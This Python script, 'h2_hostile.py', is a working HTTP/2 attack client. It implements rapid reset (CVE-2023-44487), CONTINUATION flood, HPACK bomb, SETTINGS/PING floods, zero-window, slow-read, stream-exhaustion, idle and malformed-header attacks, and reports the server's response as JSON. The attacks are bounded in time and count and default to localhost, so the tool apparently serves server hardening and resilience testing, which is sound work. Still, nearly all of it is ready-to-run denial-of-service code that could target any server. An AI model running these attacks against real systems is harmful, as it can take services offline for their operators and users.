#!/usr/bin/python3
"""A hostile HTTP/2 client: runs one known attack against a server and reports what it did.

    h2_hostile.py ATTACK --host 127.0.0.1 --port P [--tls] [--authority NAME] [--path /]
                  [--seconds N] [--count N] [--size N] [--wait N]

Attacks (each bounded in count and time; it stops by itself):
  rapid_reset         HEADERS (GET, END_STREAM) + RST_STREAM(CANCEL) per stream, in a burst
                      (CVE-2023-44487)
  continuation_flood  one HEADERS without END_HEADERS, then CONTINUATION frames without end, each
                      carrying a junk-but-valid header field of --size bytes (0: empty frames)
                      (CVE-2024-27316, CVE-2024-28182 and kin)
  hpack_bomb          a --size byte header put in the HPACK dynamic table, then requests whose
                      header blocks reference it thousands of times (1 byte on the wire each)
  settings_flood      SETTINGS frames (not ACK) in a tight loop, never reading
  ping_flood          PING frames in a tight loop, never reading
  zero_window         SETTINGS_INITIAL_WINDOW_SIZE=0, GET --path, never a WINDOW_UPDATE; holds
  slow_read           the largest windows, --count GETs of --path, never reads the socket for
                      --seconds, then reads at full speed for --wait to see if the server left
  too_many_streams    more streams than the server's SETTINGS_MAX_CONCURRENT_STREAMS (POST
                      headers without END_STREAM), left open
  idle                the preface and SETTINGS (and the ACK of the server's), then nothing
  malformed_fields    one stream per malformed request header block, each waited for (RFC 9113
                      section 8.2.1, 8.3): uppercase field names (Content-Type, X-Foo), a
                      pseudo-header after a regular field, an empty :path; then a valid GET on
                      the same connection. Sent as written: h2 neither validates nor lowercases

--seconds bounds the attack phase (for zero_window, slow_read and idle: how long the connection
is held); --wait bounds the time spent afterwards waiting for the server's verdict (close,
GOAWAY, RST_STREAMs, responses). The outbound frames are built with h2 (H2Connection) where the
sequence is legal HTTP/2 and written by hand (with hpack) where h2's state machine would refuse.
Inbound frames are parsed here, so that nothing the server sends can stop the report.

Prints one JSON line on stdout: attack, frames_sent, server_closed, closed_after (seconds from the
start of the attack, after the handshake, to when the close was seen; null when still open),
goaway ({error, last_stream_id, debug, after} or null), rst_streams_received, rst_errors
({name: count}), first_rst_after, statuses ({status: count}), streams_opened,
streams_answered (a final status or an RST_STREAM), server_settings, bytes_sent, bytes_received,
seconds, error; malformed_fields adds cases ({case: verdict}, the verdict "rst:ERROR_NAME",
"status:NNN" or "none" when the stream got no answer within --seconds). Exit 0 when the run completed, whatever the server did; 2 on usage or connection
errors (the server did not speak HTTP/2: no SETTINGS after the preface).
"""

import argparse
import errno
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.settings
import hpack

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
MAX_FRAME = 16384  # every peer accepts frames this large
OUT_HIGH_WATER = 256 * 1024  # unsent bytes kept before send() waits for the socket

DEFAULT_SECONDS = {"rapid_reset": 10, "continuation_flood": 10, "hpack_bomb": 10,
                   "settings_flood": 10, "ping_flood": 10, "zero_window": 10, "slow_read": 10,
                   "too_many_streams": 5, "idle": 10, "malformed_fields": 5}
DEFAULT_COUNT = {"rapid_reset": 10000, "continuation_flood": 100000, "hpack_bomb": 50,
                 "settings_flood": 2000000, "ping_flood": 2000000, "zero_window": 1,
                 "slow_read": 10, "too_many_streams": 0, "idle": 0, "malformed_fields": 0}


class UsageOrConnectionError(Exception):
    pass


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags,
                                                            stream_id) + payload


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return "0x%x" % code


class Peer:
    """One connection: a non-blocking socket with an output queue and an inbound frame parser
    that records what the server said. Single-threaded (an SSL object is not safe to read and
    write from two threads)."""

    def __init__(self, args):
        self.args = args
        self.out = bytearray()
        self.inbuf = bytearray()
        self.closed = False
        self.closed_at = None
        self.auto_ack = True  # ACK the server's SETTINGS and PINGs
        self.frames_sent = 0
        self.bytes_sent = 0
        self.bytes_received = 0
        self.goaway = None
        self.rst_errors = {}
        self.statuses = {}
        self.answered = set()  # streams with a final status or an RST_STREAM
        self.verdicts = {}  # stream id: "rst:ERROR_NAME" or "status:NNN", the first that came
        self.server_settings = None
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.block = None  # (stream_id, bytearray) while a header block is incomplete
        self.first_rst_at = None
        self.start = time.monotonic()  # the attack's start, set again after the handshake
        self.sock = self._connect()

    def _connect(self):
        a = self.args
        try:
            raw = socket.create_connection((a.host, a.port), timeout=5)
        except OSError as e:
            raise UsageOrConnectionError("connect %s:%d: %s" % (a.host, a.port, e))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if a.rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, a.rcvbuf)
        if not a.tls:
            raw.setblocking(False)
            return raw
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        try:
            s = ctx.wrap_socket(raw, server_hostname=a.authority.split(":")[0])
        except (OSError, ssl.SSLError) as e:
            raise UsageOrConnectionError("TLS handshake: %s" % e)
        if s.selected_alpn_protocol() != "h2":
            raise UsageOrConnectionError("ALPN chose %r, not h2" % s.selected_alpn_protocol())
        s.setblocking(False)
        return s

    def mark_closed(self):
        if not self.closed:
            self.closed = True
            self.closed_at = time.monotonic()

    # --- output ---------------------------------------------------------------------------
    def queue(self, data, frames=1):
        self.out += data
        self.frames_sent += frames

    def send(self, data, frames=1, deadline=None, read=True):
        """Queues data and pumps until less than OUT_HIGH_WATER is unsent (or the deadline)."""
        self.queue(data, frames)
        while len(self.out) > OUT_HIGH_WATER and not self.closed:
            if deadline is not None and time.monotonic() >= deadline:
                return
            self.pump(0.05, read=read)

    def _write(self):
        try:
            n = self.sock.send(self.out[:65536])
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            return
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
            # Reset: what the server sent before it (a GOAWAY) still waits in the socket.
            self._read(drain=True)
            self.mark_closed()
            return
        self.bytes_sent += n
        del self.out[:n]

    def _read(self, drain=False):
        """Reads what is there (all of it when `drain`: the socket is reset, or the end)."""
        while not self.closed:
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                if drain and self._wait_readable(0.2):
                    continue
                return
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.mark_closed()
                return
            if not data:
                self.mark_closed()
                return
            self.bytes_received += len(data)
            self.inbuf += data
            self._parse()

    def _wait_readable(self, timeout):
        return bool(select.select([self.sock], [], [], timeout)[0])

    def pump(self, timeout, read=True):
        """One round of waiting for the socket: sends what it can, reads (and parses) what
        arrived when `read`."""
        if self.closed:
            return
        if read and isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            self._read()
        rl = [self.sock] if read else []
        wl = [self.sock] if self.out else []
        if not rl and not wl:
            time.sleep(timeout)
            return
        r, w, _ = select.select(rl, wl, [], timeout)
        if w:
            self._write()
        if r:
            self._read()

    def pump_until(self, done, deadline, read=True):
        while not self.closed and not done() and time.monotonic() < deadline:
            self.pump(min(0.1, max(0.0, deadline - time.monotonic())), read=read)

    def flush(self, deadline, read=True):
        self.pump_until(lambda: not self.out, deadline, read)

    # --- input ----------------------------------------------------------------------------
    def _parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            self._on_frame(ftype, flags, sid, payload)

    def _on_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            settings = dict(struct.unpack(">HI", payload[i:i + 6])
                            for i in range(0, len(payload) - 5, 6))
            if self.server_settings is None:
                self.server_settings = {}
            for k, v in settings.items():
                try:
                    self.server_settings[h2.settings.SettingCodes(k).name] = v
                except ValueError:
                    self.server_settings["0x%x" % k] = v
            if self.auto_ack:
                self.queue(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK and self.auto_ack:
            self.queue(frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = {"error": error_name(code), "last_stream_id": last & 0x7FFFFFFF,
                           "debug": payload[8:].decode("utf-8", "replace"),
                           "after": round(time.monotonic() - self.start, 3)}
        elif ftype == RST_STREAM and len(payload) == 4:
            name = error_name(struct.unpack(">I", payload)[0])
            self.rst_errors[name] = self.rst_errors.get(name, 0) + 1
            if self.first_rst_at is None:
                self.first_rst_at = time.monotonic()
            self.answered.add(sid)
            self.verdicts.setdefault(sid, "rst:" + name)
        elif ftype in (HEADERS, PUSH_PROMISE):
            body = payload
            if flags & PADDED and body:
                pad = body[0]
                body = body[1:len(body) - pad] if pad < len(body) else b""
            if ftype == HEADERS and flags & PRIORITY_FLAG:
                body = body[5:]
            elif ftype == PUSH_PROMISE:
                body = body[4:]
            self.block = (sid, bytearray(body))
            if flags & END_HEADERS:
                self._on_block()
        elif ftype == CONTINUATION and self.block is not None:
            self.block[1].extend(payload)
            if flags & END_HEADERS:
                self._on_block()

    def _on_block(self):
        sid, block = self.block
        self.block = None
        try:
            fields = self.decoder.decode(bytes(block), raw=True)
        except Exception:  # a broken block from the server: counted, not fatal
            self.statuses["undecodable"] = self.statuses.get("undecodable", 0) + 1
            return
        status = next((v.decode() for k, v in fields if k == b":status"), None)
        if status is not None:
            self.statuses[status] = self.statuses.get(status, 0) + 1
            if not status.startswith("1"):
                self.answered.add(sid)
                self.verdicts.setdefault(sid, "status:" + status)


class Attack:
    def __init__(self, args):
        self.args = args
        self.peer = None
        self.opened = []  # stream ids this run opened
        self.start = None

    # The h2 connection builds the preface and legal frames; it never sees inbound bytes (the
    # Peer parses those), so it cannot refuse what the attack is about.
    def h2conn(self, initial_window=None):
        conn = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding=None, validate_outbound_headers=False))
        if initial_window is not None:
            conn.local_settings = h2.settings.Settings(
                client=True,
                initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window,
                                h2.settings.SettingCodes.ENABLE_PUSH: 0})
        conn.initiate_connection()
        return conn

    def request_headers(self, method="GET", path=None):
        a = self.args
        return [(":method", method), (":scheme", "https" if a.tls else "http"),
                (":authority", a.authority), (":path", path or a.path),
                ("user-agent", "h2_hostile")]

    def handshake(self, conn, extra=b""):
        """Preface + SETTINGS; waits for the server's SETTINGS (and ACKs it)."""
        self.peer = Peer(self.args)
        self.peer.send(conn.data_to_send() + extra, frames=1)
        deadline = time.monotonic() + 5
        self.peer.pump_until(lambda: self.peer.server_settings is not None, deadline)
        if self.peer.server_settings is None:
            got = bytes(self.peer.inbuf[:80])
            raise UsageOrConnectionError(
                "no SETTINGS from the server after the preface (%s; got %r)" %
                ("it closed" if self.peer.closed else "timeout", got))
        self.peer.flush(deadline)
        self.start = self.peer.start = time.monotonic()

    def next_stream(self, conn=None):
        sid = conn.get_next_available_stream_id() if conn else (
            self.opened[-1] + 2 if self.opened else 1)
        self.opened.append(sid)
        return sid

    def attack_deadline(self):
        return self.start + self.args.seconds

    def observe(self, done=lambda: False):
        """After the attack: reads until the server closes, `done()` or --wait passes."""
        self.peer.pump_until(done, time.monotonic() + self.args.wait)

    def all_answered(self):
        return all(s in self.peer.answered for s in self.opened)

    # --- attacks ----------------------------------------------------------------------------
    def rapid_reset(self):
        conn = self.h2conn()
        self.handshake(conn)
        end = self.attack_deadline()
        headers = self.request_headers()
        while len(self.opened) < self.args.count and not self.peer.closed \
                and time.monotonic() < end:
            batch = min(100, self.args.count - len(self.opened))
            for _ in range(batch):
                sid = self.next_stream(conn)
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            self.peer.send(conn.data_to_send(), frames=2 * batch, deadline=end)
        self.peer.flush(end)
        self.observe()

    def continuation_flood(self):
        self.handshake(self.h2conn())
        enc = hpack.Encoder()
        sid = self.next_stream()
        self.peer.send(frame(HEADERS, END_STREAM, sid, enc.encode(self.request_headers())))
        size, n, end = self.args.size, 0, self.attack_deadline()
        while n < self.args.count and not self.peer.closed and time.monotonic() < end:
            chunk, batch = bytearray(), min(100, self.args.count - n)
            for _ in range(batch):
                # A literal field without indexing, new name: valid, never stored, all junk.
                field = b"" if size == 0 else b"\x00" + _literal_value(b"x-flood") + \
                    _literal_value(b"j" * size)
                chunk += frame(CONTINUATION, 0, sid, field)
                n += 1
            self.peer.send(bytes(chunk), frames=batch, deadline=end)
        self.peer.flush(end)
        self.observe()

    def hpack_bomb(self):
        self.handshake(self.h2conn())
        table = self.peer.server_settings.get("HEADER_TABLE_SIZE", 4096)
        name = b"x-bomb"
        value_len = max(1, min(self.args.size, table - 32 - len(name)))
        enc = hpack.Encoder()
        base = enc.encode(self.request_headers())  # static-table refs and literals, no indexing
        # Literal with incremental indexing, new name (0x40): the entry lands at index 62.
        prime = b"\x40" + _literal_value(name) + _literal_value(b"b" * value_len)
        refs_per_block = MAX_FRAME - len(base) - len(prime) - 16
        ref = bytes([0x80 | 62])  # indexed field 62: the first dynamic entry (0xbe)
        end = self.attack_deadline()
        for i in range(self.args.count):
            if self.peer.closed or time.monotonic() >= end:
                break
            sid = self.next_stream()
            block = base + (prime if i == 0 else b"") + ref * refs_per_block
            self.peer.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, block), deadline=end)
        self.peer.flush(end)
        self.observe(self.all_answered)
        self.extra = {"decoded_bytes_per_request": refs_per_block * (len(name) + value_len),
                      "wire_bytes_per_request": MAX_FRAME - 16}

    def _flood(self, one, batch=1000):
        self.handshake(self.h2conn())
        self.peer.auto_ack = False
        data, n, end = one * batch, 0, self.attack_deadline()
        while n < self.args.count and not self.peer.closed and time.monotonic() < end:
            self.peer.send(data, frames=batch, deadline=end, read=False)
            n += batch
        self.peer.flush(end, read=False)
        self.observe()

    def settings_flood(self):
        # SETTINGS_MAX_CONCURRENT_STREAMS = 100: harmless, and each one must be ACKed.
        self._flood(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)))

    def ping_flood(self):
        self._flood(frame(PING, 0, 0, b"h2hostil"))

    def zero_window(self):
        conn = self.h2conn(initial_window=0)
        self.handshake(conn)
        for _ in range(max(1, self.args.count)):
            conn.send_headers(self.next_stream(conn), self.request_headers(), end_stream=True)
        self.peer.send(conn.data_to_send(), frames=len(self.opened))
        # Reads (the server's HEADERS may come) but never opens a window: no DATA can flow.
        self.peer.pump_until(lambda: False, self.attack_deadline())

    def slow_read(self):
        big = 2**31 - 1
        conn = self.h2conn(initial_window=big)
        conn.increment_flow_control_window(big - 65535)
        self.handshake(conn)
        self.peer.auto_ack = False
        for _ in range(max(1, self.args.count)):
            conn.send_headers(self.next_stream(conn), self.request_headers(), end_stream=True)
        self.peer.send(conn.data_to_send(), frames=len(self.opened), read=False)
        self.peer.flush(self.attack_deadline(), read=False)
        # Never reads: the server's writes fill the socket. Watches the TCP state meanwhile (an
        # abortive close shows at once; a FIN waits behind the unread data).
        while time.monotonic() < self.attack_deadline():
            if _tcp_peer_gone(self.peer.sock):
                break
            time.sleep(0.05)
        # Then reads at full speed: a server that gave up ends the connection short of the
        # bytes asked for; one that did not goes on sending (seen as not closed).
        self.peer.auto_ack = True
        self.observe()

    def too_many_streams(self):
        conn = self.h2conn()
        self.handshake(conn)
        limit = self.peer.server_settings.get("MAX_CONCURRENT_STREAMS")
        count = self.args.count or (limit or 100) + 100
        headers = self.request_headers("POST") + [("content-length", "1")]
        end = self.attack_deadline()
        for _ in range(count):
            if self.peer.closed or time.monotonic() >= end:
                break
            conn.send_headers(self.next_stream(conn), headers, end_stream=False)
            self.peer.send(conn.data_to_send(), deadline=end)
        self.peer.flush(end)
        extra = len(self.opened) - (limit if limit is not None else len(self.opened))
        self.observe(lambda: sum(self.peer.rst_errors.values()) >= extra or
                     self.peer.goaway is not None)
        self.extra = {"server_max_concurrent_streams": limit}

    def idle(self):
        self.handshake(self.h2conn())
        self.peer.pump_until(lambda: False, self.attack_deadline())

    def malformed_fields(self):
        conn = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding=None, validate_outbound_headers=False,
            normalize_outbound_headers=False))
        conn.initiate_connection()
        self.handshake(conn)
        good = self.request_headers()  # the pseudo-headers, then user-agent
        cases = [
            ("uppercase_content_type", good + [("Content-Type", "text/plain")]),
            ("uppercase_x_foo", good + [("X-Foo", "1")]),
            ("pseudo_after_regular", [f for f in good if f[0] != ":path"] +
             [(":path", self.args.path)]),
            ("empty_path", [(k, "" if k == ":path" else v) for k, v in good]),
            ("valid", good),
        ]
        end = self.attack_deadline()
        verdicts = {}
        for name, headers in cases:
            sid = self.next_stream(conn)
            conn.send_headers(sid, headers, end_stream=True)
            self.peer.send(conn.data_to_send(), deadline=end)
            self.peer.pump_until(lambda: sid in self.peer.verdicts, end)
            verdicts[name] = self.peer.verdicts.get(sid, "none")
        self.extra = {"cases": verdicts}

    # --- report -----------------------------------------------------------------------------
    def run(self):
        t0 = time.monotonic()
        error = None
        self.extra = {}
        try:
            getattr(self, self.args.attack)()
        except UsageOrConnectionError:
            raise
        except Exception as e:  # an attack that broke half-way still reports what it saw
            error = "%s: %s" % (type(e).__name__, e)
        p = self.peer
        if p is not None and not p.closed and p.auto_ack is False:
            p.auto_ack = True
        if p is not None and not p.closed:
            # A last non-blocking look: the server may have closed while nobody read.
            p.pump(0.2)
        report = {
            "attack": self.args.attack,
            "frames_sent": p.frames_sent if p else 0,
            "server_closed": bool(p and p.closed),
            "closed_after": round(p.closed_at - self.start, 3)
            if p and p.closed_at and self.start else None,
            "goaway": p.goaway if p else None,
            "rst_streams_received": sum(p.rst_errors.values()) if p else 0,
            "rst_errors": p.rst_errors if p else {},
            "first_rst_after": round(p.first_rst_at - self.start, 3)
            if p and p.first_rst_at and self.start else None,
            "statuses": p.statuses if p else {},
            "streams_opened": len(self.opened),
            "streams_answered": len([s for s in self.opened if p and s in p.answered]),
            "server_settings": p.server_settings if p else None,
            "bytes_sent": p.bytes_sent if p else 0,
            "bytes_received": p.bytes_received if p else 0,
            "seconds": round(time.monotonic() - t0, 3),
            "error": error,
        }
        report.update(self.extra)
        return report


def _literal_value(data):
    """An HPACK string literal, not Huffman-coded: length prefix (7-bit) + bytes."""
    return bytes(hpack.hpack.encode_integer(len(data), 7)) + data


def _tcp_peer_gone(sock):
    """True when the peer sent FIN or RST, read from TCP_INFO without touching the data."""
    info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
    # tcpi_state: 7 TCP_CLOSE (reset), 8 TCP_CLOSE_WAIT (FIN received)
    return info[0] in (7, 8)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=sorted(DEFAULT_SECONDS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true", help="TLS with ALPN h2, no verification")
    p.add_argument("--authority", help="the :authority (and SNI); default HOST:PORT")
    p.add_argument("--path", default="/")
    p.add_argument("--seconds", type=float, help="attack phase bound (the hold time for "
                   "zero_window, slow_read, idle)")
    p.add_argument("--count", type=int, help="streams or frames to send")
    p.add_argument("--size", type=int, default=None,
                   help="continuation_flood: bytes of junk per CONTINUATION (0: empty frames, "
                   "default 1024); hpack_bomb: bytes of the indexed value (default 4000)")
    p.add_argument("--wait", type=float, default=3.0,
                   help="seconds to wait for the server's verdict after the attack (default 3)")
    p.add_argument("--rcvbuf", type=int, default=0, help="SO_RCVBUF before connecting (default: the kernel's; "
                   "small values make the final read of slow_read slow too)")
    a = p.parse_args(argv)
    if a.authority is None:
        a.authority = "%s:%d" % (a.host, a.port)
    if a.seconds is None:
        a.seconds = DEFAULT_SECONDS[a.attack]
    if a.count is None:
        a.count = DEFAULT_COUNT[a.attack]
    if a.size is None:
        a.size = 4000 if a.attack == "hpack_bomb" else 1024
    if a.seconds <= 0 or a.wait < 0 or a.count < 0 or a.size < 0 or not 0 < a.port < 65536:
        p.error("--seconds must be > 0; --wait, --count, --size >= 0; --port 1..65535")
    return a


def main(argv):
    args = parse_args(argv)
    attack = Attack(args)
    try:
        report = attack.run()
    except UsageOrConnectionError as e:
        print(json.dumps({"attack": args.attack, "frames_sent": 0, "server_closed": None,
                          "goaway": None, "rst_streams_received": 0, "seconds": 0,
                          "error": str(e)}))
        return 2
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
